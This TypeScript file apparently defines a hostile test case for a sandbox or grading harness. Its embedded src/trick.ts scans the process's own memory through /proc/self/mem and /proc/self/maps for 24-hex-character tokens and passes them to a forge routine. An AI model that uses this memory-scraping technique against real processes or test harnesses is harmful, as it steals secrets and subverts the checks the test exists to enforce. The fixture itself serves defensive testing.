import { encoder, FORGE, type Hostile } from "./hostile.ts";

export const hostile = {
  title: "/proc/self/mem is searched for a line with the token",
  story:
    "What was written into the pipe still lies in the process's memory, which is a file on Linux.",
  files: {
    "src/trick.ts": `
      import { forge } from "./forge.ts";

       import fs from "node:fs";
       const tokens = new Set<string>();
       const memory = fs.openSync("/proc/self/mem", "r");
       for (const line of fs.readFileSync("/proc/self/maps", "utf8").split("\\n")) {
         const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
         if (from === undefined || to === undefined) continue;
         const size = Number(BigInt("0x" + to) - BigInt("0x" + from));
         if (size > 32 << 20) continue;
         const bytes = Buffer.alloc(size);
         try { fs.readSync(memory, bytes, 0, size, BigInt("0x" + from) as never); } catch { continue; }
         for (const [, token] of bytes.toString("latin1").matchAll(/(?<![0-9a-z])([0-9a-f]{24})(?![0-9a-z])/g)) tokens.add(token!);
       }
       forge([...tokens]);
    `,
    "src/forge.ts": FORGE,
    "src/encode.ts": encoder(),
  },
  linux: true,
} satisfies Hostile;
